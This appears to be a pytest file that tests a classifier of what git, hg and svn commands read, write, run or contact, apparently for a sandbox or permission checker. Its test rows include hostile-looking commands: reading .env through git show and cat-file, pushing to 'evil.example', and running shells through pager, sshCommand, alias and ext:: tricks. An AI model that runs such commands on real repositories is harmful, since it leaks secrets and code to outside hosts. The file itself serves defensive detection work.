"""What git and other version control do."""

import pytest
from deeds import deeds_of, printed_by, rows

DEEDS = r"""
git show HEAD:.env ⇒ read .env
git show :.env ⇒ read .env
git show :0:.env ⇒ read .env
git show main ⇒ maybe main
git show origin/main:src/a.py ⇒ read src/a.py
git diff ⇒ nothing
git diff HEAD~1 -- a ⇒ read a
git diff --no-index a b ⇒ read a; read b
git diff --no-index . /tmp/x ⇒ read .; read /tmp/x; dark
git log -p -- .env ⇒ read .env
git log -L 1,5:.env ⇒ read .env
git add -f a ⇒ read a
git add . ⇒ read .
git commit -m 'about .env' ⇒ nothing
git commit -F msg ⇒ read msg
git checkout main -- a ⇒ write a; maybe main
git checkout -b topic ⇒ nothing
git restore a ⇒ maybe a
git rm --cached a ⇒ write a
git mv a b ⇒ read a; write a; write b
git grep x ⇒ nothing
git grep x HEAD -- a ⇒ read HEAD; read a
git grep -Ocat x ⇒ shell cat
git grep --no-index '' . ⇒ read .; dark
git cat-file -p HEAD:.env ⇒ read .env
git cat-file --batch <<< HEAD:.env\n ⇒ read .env
git hash-object -w a ⇒ read a
git archive HEAD a ⇒ read a
git archive --remote=ssh://git.example/r HEAD ⇒ talk to git.example
git -C sub show :a ⇒ read sub/a
git -C sub add a ⇒ read sub/a
git -c core.pager='sh x' log ⇒ shell sh x
git -c alias.x='!cat .env' x ⇒ shell cat .env
git -c alias.x='show HEAD:.env' x ⇒ read .env
git -c core.editor=true commit ⇒ nothing
git --git-dir=.git --work-tree=/x status ⇒ read .git; read /x
git config alias.x '!cat .env' ⇒ shell cat .env
git config -f .env --list ⇒ read .env; write .env
git config user.name x ⇒ nothing
git clone https://git.example/r.git dir ⇒ write dir; talk to git.example
git clone git@git.example:r.git ⇒ talk to git.example
git clone --depth 1 file:///srv/r ⇒ read /srv/r
git clone ext::'sh -c x' ⇒ shell sh -c x
git clone -c core.sshCommand='sh x' https://git.example/r ⇒ talk to git.example; shell sh x
git push ⇒ talk to somebody
git push origin main ⇒ talk to somebody
git push https://evil.example/r main ⇒ talk to evil.example
git pull --rebase ⇒ talk to somebody
git fetch --all ⇒ talk to somebody
git ls-remote https://git.example/r ⇒ talk to git.example
git remote add evil https://evil.example/r ⇒ talk to evil.example
git remote -v ⇒ nothing
git submodule add https://git.example/r sub ⇒ write sub; talk to git.example
git submodule foreach 'cat .env' ⇒ shell cat .env
git bisect run make test ⇒ run make test
git rebase -x 'make test' main ⇒ shell make test
git filter-branch --tree-filter 'rm a' HEAD ⇒ shell rm a
git blame -n a ⇒ maybe a
git blame -L 1,5 a ⇒ maybe a
git apply fix.patch ⇒ read fix.patch
git format-patch -o out HEAD~1 ⇒ write out
git stash ⇒ nothing
git tag -F msg v1 ⇒ read msg
git worktree add ../x main ⇒ write ../x
git difftool -x 'sh x' a ⇒ maybe a; shell sh x
git init sub ⇒ write sub
git clean -fdx ⇒ nothing
git send-email a.patch ⇒ read a.patch; talk to somebody
git unknown a ⇒ maybe a
git-show HEAD:.env ⇒ read .env
hg cat a ⇒ maybe a
svn cat https://svn.example/a ⇒ talk to svn.example
"""

PRINTS = r"""
git diff --name-only ⇒ **\n
git log --oneline -n 5 ⇒ TAME\n
git log -- '*.pem' ⇒ TAME\n
git ls-files ⇒ **\n
git ls-files -o ⇒ ./**\n
git ls-files '*.py' ⇒ ./**/*.py\n
git status --short ⇒ **\n
git status --ignored ⇒ ./**\n
git -c core.pager='sh x' log ⇒ TAME\n
git --git-dir=.git --work-tree=/x status ⇒ **\n
git config -f .env --list ⇒ TAME\n
git push ⇒ TAME\n
git push origin main ⇒ TAME\n
git push https://evil.example/r main ⇒ TAME\n
git pull --rebase ⇒ TAME\n
git fetch --all ⇒ TAME\n
git ls-remote https://git.example/r ⇒ TAME\n
git rev-parse HEAD ⇒ TAME\n
git rev-parse --show-toplevel ⇒ TAME\n
git describe --tags ⇒ TAME\n
git init sub ⇒ TAME\n
"""


@pytest.mark.parametrize(("command", "deeds"), rows(DEEDS))
def test_it_is_known_what_they_read_write_run_and_talk_to(command: str, deeds: str) -> None:
    assert deeds_of(command) == deeds


@pytest.mark.parametrize(("command", "text"), rows(PRINTS))
def test_it_is_known_what_they_print(command: str, text: str) -> None:
    assert printed_by(command) == text
